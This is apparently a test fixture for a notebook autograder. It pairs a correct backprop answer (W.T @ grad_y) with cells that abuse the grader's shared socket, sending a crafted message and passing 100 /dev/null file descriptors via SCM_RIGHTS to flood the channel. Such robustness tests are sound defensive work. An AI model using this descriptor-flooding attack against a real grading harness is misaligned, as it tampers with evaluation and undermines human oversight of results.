# /// attack
# tries = "sends descriptors, more than anybody takes"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared border

# %%
def send(data):
    whole = len(data).to_bytes(4, "little") + data
    while whole:
        whole = whole[os.write(border(), whole) :]

# %%
import array
import socket

end = socket.socket(fileno=os.dup(border()))
some = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", some))
end.sendmsg([b"\x02\x00\x00\x00\x90\x90"], [rights])
